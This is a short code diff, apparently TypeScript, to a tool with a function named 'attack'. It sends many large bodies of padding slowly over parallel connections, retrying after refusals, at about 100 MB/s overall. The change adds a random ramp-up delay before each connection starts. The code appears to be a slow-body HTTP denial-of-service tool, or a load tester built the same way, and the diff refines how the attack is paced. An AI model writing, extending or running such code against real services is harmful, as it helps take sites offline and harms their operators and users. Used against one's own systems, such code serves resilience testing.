@@ -26,6 +26,8 @@ const SENT_BYTES = 9_900_000;
 const PIECE = Buffer.from(' '.repeat(24_750));
 /** A whole body takes 40 s, and all together come with 100 MB/s. */
 const PIECE_EVERY_MS = 100;
+/** The connections are opened within this time. */
+const RAMP_MS = 2_000;
 /** Pause of `Retry-After`, and its random addition. */
 const RETRY_MS = 1_000;
 const RETRY_JITTER_MS = 1_000;
@@ -45,6 +47,7 @@ async function attack(argument: Attack): Promise<AttackResult> {
 
 /** Sends one body after the other: the next one a second or two after a refusal. */
 async function keepSending({ url }: Attack, key: string, end: number): Promise<AttackResult> {
+  await sleep(Math.random() * RAMP_MS);
   for (let refused = 0; ; refused += 1) {
     const socket = begin(url, key);
     const bytesHeld = await sendSlowly(socket, end);
